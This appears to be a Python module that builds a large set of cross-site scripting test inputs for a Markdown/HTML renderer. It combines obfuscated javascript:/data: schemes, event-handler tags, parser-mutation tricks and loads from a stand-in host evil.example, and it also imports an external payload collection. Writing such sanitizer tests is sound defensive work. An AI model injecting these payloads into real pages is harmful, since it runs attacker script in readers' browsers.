"""Texts that try to run a script in the browser of a reader, or to make it load something."""

from collections.abc import Iterator
from functools import cache
from itertools import product

from brs_kb import get_all_payloads

EVIL = "https://evil.example/x"
_RUN = "alert(1)"
# Also as entities, with control characters, and in other cases: browsers forgive much.
_SCHEMES = (
    *("javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", "\x01javascript:"),
    *("&#106;avascript:", "&#x6A&#x61vascript:", "javascript&colon;", "%6Aavascript:"),
    *("vbscript:", "data:text/html,", "data:text/html;base64,", "file:///", "blob:", "octavo:"),
    *("view-source:javascript:", "javascript&#58;", "feed:javascript:", "//evil.example/"),
)
_PLACES = (
    "[a]({})",
    "[a](<{}>)",
    '[a]({} "title")',
    "![a]({})",
    "[a][b]\n\n[b]: {}",
    "<{}>",
    "[[{}]]",
    "[[{}|label]]",
    "![[{}]]",
    '<a href="{}">a</a>',
    "<a href={}>a</a>",
    '<img src="{}">',
    '<a xlink:href="{}">a</a>',
    '<form action="{}"><button>a</button></form>',
    '<button formaction="{}">a</button>',
    '<iframe src="{}"></iframe>',
    '<object data="{}"></object>',
    '<embed src="{}">',
    '<base href="{}">',
    '<link rel="stylesheet" href="{}">',
    '<meta http-equiv="refresh" content="0;url={}">',
    '<svg><a href="{}"><text>a</text></a></svg>',
    '<math><mtext href="{}">a</mtext></math>',
    "$\\href{{{}}}{{x}}$",
    "$\\url{{{}}}$",
    '<video poster="{}"></video>',
    '<input type="image" src="{}">',
    '<td background="{}">a</td>',
)
# What is written in HTML, and where Markdown puts texts.
_TAGS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<style>*{background:url(https://evil.example/x)}</style>",
    '<p style="background:url(https://evil.example/x)">a</p>',
    "<details open ontoggle=alert(1)>a</details>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "</code></pre></td></article><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php <script>alert(1)</script> ?>",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover=alert(1) x='",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table>",
    "<svg></p><style><a id='</style><img src=x onerror=alert(1)>'></svg>",
    "<template><script>alert(1)</script></template>",
    "<select><script>alert(1)</script></select>",
    "<textarea></textarea><script>alert(1)</script>",
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<title></title><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\x00<scr\x00ipt>alert(1)</script>",
)
_CONTEXTS = (
    "{}",
    "# {}",
    "> [!note] {}",
    "> [!{}] title",
    "> [!tip]- {}\n> text",
    "- [ ] {}",
    "| {} |\n|---|\n| {} |",
    "a[^1]\n\n[^1]: {}",
    "a[^{}]\n\n[^{}]: b",
    "```{}\ncode\n```",
    "```html\n{}\n```",
    "```js\n{}\n```",
    "`{}`",
    "${}$",
    "$$\n\\text{{{}}}\n$$",
    "$\\style{{{}}}{{x}}$",
    "=={}==",
    "%%{}%%",
    "[[a|{}]]",
    "![[a.png|{}]]",
    '![a](b.png "{}")',
    "[{}](a.md)",
    "---\ntitle: {}\nlang: {}\n---\ntext",
    "**{}**",
    "<div>\n\n{}\n\n</div>",
    "<details><summary>{}</summary></details>",
)


@cache
def payloads() -> tuple[str, ...]:
    """Every payload once: those of a collection, and those made here."""
    found = [str(each["payload"]) for each in get_all_payloads().values()]
    return tuple(dict.fromkeys([*found, *_made()]))


def _made() -> Iterator[str]:
    for place, scheme in product(_PLACES, _SCHEMES):
        address = f"{scheme}{_RUN}" if not scheme.startswith("//") else f"{scheme}x"
        yield place.format(address)
    for context, tag in product(_CONTEXTS, _TAGS):
        yield context.replace("{{", "{").replace("}}", "}").replace("{}", tag)
    yield f"![a]({EVIL}.png) <img src={EVIL}.png> ![[{EVIL}.png]]"
